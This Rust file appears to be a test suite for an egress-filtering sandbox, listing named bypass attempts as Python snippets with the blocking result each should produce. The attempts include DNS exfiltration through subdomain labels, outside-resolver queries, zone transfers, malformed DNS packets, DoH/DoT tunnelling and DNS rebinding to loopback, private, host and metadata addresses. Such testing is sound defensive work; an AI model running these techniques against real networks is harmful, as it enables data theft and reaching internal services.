//! Names, and where they lead.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, attempt};
use crate::attempts::{DATAGRAM, PLAIN, SECURE};

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    attempt(
        "another-resolver-over-udp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net')).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org')).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside()
    .recorded("T.example.net", 53, "no-rule"),
    attempt(
        "another-resolver-over-tcp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net', tcp=True)).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org', tcp=True)).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside()
    .recorded("T.example.net", 53, "no-rule"),
    attempt("a-name-not-listed", "s = dial('other.example.net', 80); demand(say(s, get('other.example.net', '/', T)), b'world')", PLAIN)
    .against(&[Names, Rules])
    .recorded("other.example.net", 53, "no-rule"),
    attempt(
        "data-in-labels",
        "socket.getaddrinfo(T + '.secret-data-0123456789.example.net', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names])
    .recorded("T.secret-data-0123456789.example.net", 53, "no-rule"),
    attempt(
        "data-in-labels-of-a-wildcard",
        "socket.getaddrinfo(T + '.x.y.wild.example.org', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names])
    .recorded("T.x.y.wild.example.org", 53, "no-rule"),
    attempt("a-rule-that-has-expired", "demand(http('expired.example.org', get('expired.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Expiry])
    .recorded("expired.example.org", 53, "no-rule"),
    attempt("a-name-that-is-denied", "demand(http('denied.wild.example.org', get('denied.wild.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Deny])
    .recorded("denied.wild.example.org", 53, "no-rule"),
    attempt(
        "record-types",
        "found = [kind for kind in (16, 10, 255, 12, 65, 64, 15, 33, 2, 6, 43, 257) if ask_dns('198.18.0.1', 'open.example.org', kind)[1]]
if not found: raise OSError('no records')",
        PLAIN,
    )
    .against(&[RecordTypes])
    .unaudited(),
    attempt(
        "zone-transfer",
        "if not ask_dns('198.51.100.1', 'open.example.org', 252, tcp=True)[1]: raise OSError('no records')",
        PLAIN,
    )
    .against(&[RecordTypes])
    .unaudited(),
    attempt(
        "idle-clients-of-the-resolver",
        "clients = idle(64)
if len(clients) < 64: raise OSError(f'only {len(clients)} may stay')",
        "clients = idle(64)
demand(str(ask_dns('198.51.100.1', 'open.example.org')).encode(), b'(0, 1)')
demand(http('open.example.org', get('open.example.org', '/', T)), b'world says')",
    )
    .against(&[DnsClients])
    .unaudited(),
    attempt(
        "malformed-questions",
        "for junk in (b'', b'x', b'\\xff' * 12, question('a')[:-3], question('a') + b'\\xc0\\x0c' * 9, b'\\0\\1\\1\\0\\xff\\xff' + bytes(6) + b'\\xc0\\x0c' * 200):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(junk, ('198.18.0.1', 53))
demand(str(ask_dns('198.18.0.1', T + '.example.net')).encode(), b'(0, 1)')",
        PLAIN,
    )
    .against(&[Names])
    .recorded("T.example.net", 53, "no-rule"),
    attempt("dns-over-https", "https('other.example.net', 'other.example.net', get('other.example.net', '/dns-query', T))", SECURE)
    .against(&[Names, Rules])
    .recorded_once_a_minute("other.example.net", 53, "no-rule"),
    attempt("dns-over-tls", "s = dial('198.51.100.1', 853); say(s, T.encode())", SECURE)
    .against(&[Rules])
    .recorded("198.51.100.1", 853, "no-rule"),
    attempt("rebinding-to-loopback", "demand(http('loopback.example.org', get('loopback.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses])
    .recorded("loopback.example.org", 80, "address-refused"),
    attempt("rebinding-to-private", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses])
    .recorded("private.example.org", 80, "address-refused"),
    attempt(
        "rebinding-to-private-over-udp",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('private.example.org', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[Addresses])
    .recorded("private.example.org", 5353, "address-refused"),
    attempt("rebinding-to-metadata", "demand(http('metadata.example.org', get('metadata.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses])
    .recorded("metadata.example.org", 80, "address-refused"),
    attempt("rebinding-to-the-host", "demand(say(dial('host.example.org', 7777), T.encode() + b'\\n'), T.encode())", PLAIN)
    .against(&[Addresses])
    .recorded("host.example.org", 7777, "address-refused"),
    attempt("alias-to-private", "demand(http('alias.example.org', get('alias.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses])
    .recorded("alias.example.org", 80, "address-refused"),
];
